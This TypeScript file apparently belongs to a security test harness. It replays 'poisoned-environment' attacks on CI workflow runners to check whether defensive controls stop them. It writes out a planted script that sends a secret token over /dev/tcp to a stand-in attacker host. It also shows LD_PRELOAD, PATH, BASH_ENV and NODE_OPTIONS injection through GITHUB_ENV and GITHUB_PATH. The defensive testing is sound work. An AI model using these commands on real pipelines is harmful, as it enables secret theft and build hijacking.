import { chmodSync, existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Attack, ReplayCase, WorkflowStep } from '../../attack.ts';
import { event, notAsked } from '../../expected-event.ts';
import { preloadedLibrary } from '../../ground/preloaded-library.ts';
import type { Scene } from '../../ground/scene.ts';

/** What the planted program does in the later step, which holds a secret: it sends the secret, and lets the step go on. */
const SENDS = `printf '%s\\n' '#!/bin/bash' 'exec 3<>/dev/tcp/collect.attacker.test/80 && printf "GET /%s HTTP/1.1\\r\\n\\r\\n" "$TOKEN" >&3' >"$HOME/planted"; chmod +x "$HOME/planted"`;
const LATER: WorkflowStep = { run: 'git --version || true', env: { TOKEN: '${{ secrets.TOKEN }}' } };

const preload = (place: string): string => `echo "LD_PRELOAD=${place}/planted.so" >>"$GITHUB_ENV"`;
/** A script that makes a library, which becomes the planted program wherever it is loaded first. */
const LIBRARY = `mv "$HOME/planted" /tmp; base64 -d >/tmp/planted.so <<'X'
${preloadedLibrary('/tmp/planted.so', '/tmp/planted').toString('base64')}
X
${preload('/tmp')}`;

/** A repository with such a library, as a runner's own tools find it where the job's files are the machine's. */
function planted({ workFolder, canary }: Scene): void {
  const [library, program] = [join(workFolder, 'planted.so'), join(workFolder, 'planted')];
  writeFileSync(library, preloadedLibrary(library, program));
  writeFileSync(program, `#!/bin/bash\n: >/run/replay/ran-${canary}\n`);
  chmodSync(program, 0o755);
}

function poison(name: string, plant: string): ReplayCase {
  return {
    name,
    control: 'the gateway: what a later step holds goes nowhere else',
    without: ['gateway'],
    workflow: { event: 'push', steps: [{ run: `${SENDS}; ${plant}` }, LATER] },
    harm: ({ sink, canary }) => sink.got(canary) && 'the secret of the later step arrived',
    event: notAsked(({ name: asked }) => asked === 'collect.attacker.test'),
  };
}

export const attack: Attack = {
  name: 'poisoned-environment',
  title: 'A variable or search path that turns a later step over',
  story:
    'A step may set variables and search paths for the steps after it. An install script, or anything that writes a file whose ' +
    'name the workflow takes from a stranger, so decides what the next step runs: a planted program that comes first in PATH, ' +
    'a script that every bash reads, a library that every program loads, options of Node.js. Workflows of Google Firebase and Apache could be taken over so.',
  sources: [
    [
      'GitHub environment injection, 2022',
      'https://www.legitsecurity.com/blog/github-privilege-escalation-vulnerability-0',
    ],
    ['MITRE ATT&CK T1574.007', 'https://attack.mitre.org/techniques/T1574/007/'],
    ['MITRE ATT&CK T1574.006 (LD_PRELOAD)', 'https://attack.mitre.org/techniques/T1574/006/'],
    ['practical guide §2, §5'],
  ],
  cases: [
    poison('preloaded-library', LIBRARY),
    {
      name: 'preloaded-into-our-tools',
      control: 'no tool of ours gets a variable of the job',
      without: ['own-tools'],
      workflow: { event: 'push', steps: [{ run: preload('/run/replay/work') }] },
      prepare: planted,
      harm: ({ canary }) =>
        existsSync(`/run/replay/ran-${canary}`)
          ? 'a program of the repository ran outside of every sandbox'
          : undefined,
      event: event('command.used', 'GITHUB_ENV: LD_PRELOAD', ({ command, names }) => {
        return command === 'GITHUB_ENV' && names.includes('LD_PRELOAD');
      }),
    },
    poison(
      'search-path',
      'mkdir "$HOME/bin"; mv "$HOME/planted" "$HOME/bin/git"; echo "$HOME/bin" >>"$GITHUB_PATH"',
    ),
    poison('shell-start', 'echo "BASH_ENV=$HOME/planted" >>"$GITHUB_ENV"'),
    {
      name: 'options-of-node',
      control: 'rules for what a step may leave to the next',
      without: ['command-rules'],
      workflow: {
        event: 'push',
        steps: [
          { run: 'echo "NODE_OPTIONS=--require /tmp/planted-for-the-next.cjs" >>"$GITHUB_ENV"' },
          { run: 'echo "node will be given: $NODE_OPTIONS"' },
        ],
      },
      harm: ({ output }) =>
        /given: --require/.test(output()) ? 'the next step was given options for Node.js' : undefined,
      event: event('policy.refused', 'commands/', ({ rule, why }) => {
        return rule.startsWith('commands/') && why.includes('NODE_OPTIONS');
      }),
    },
    {
      name: 'runner-variables',
      control: 'rules for what a step may leave to the next',
      without: ['command-rules'],
      workflow: {
        event: 'push',
        steps: [
          { run: 'echo "GITHUB_REPOSITORY=attacker/other" >>"$GITHUB_ENV"' },
          { run: 'echo "this is of $GITHUB_REPOSITORY"' },
        ],
      },
      harm: ({ output }) =>
        output().includes('of attacker/other')
          ? 'the next step takes itself for another repository’s'
          : undefined,
      event: event('policy.refused', 'commands/', ({ rule }) => rule.startsWith('commands/')),
    },
  ],
};
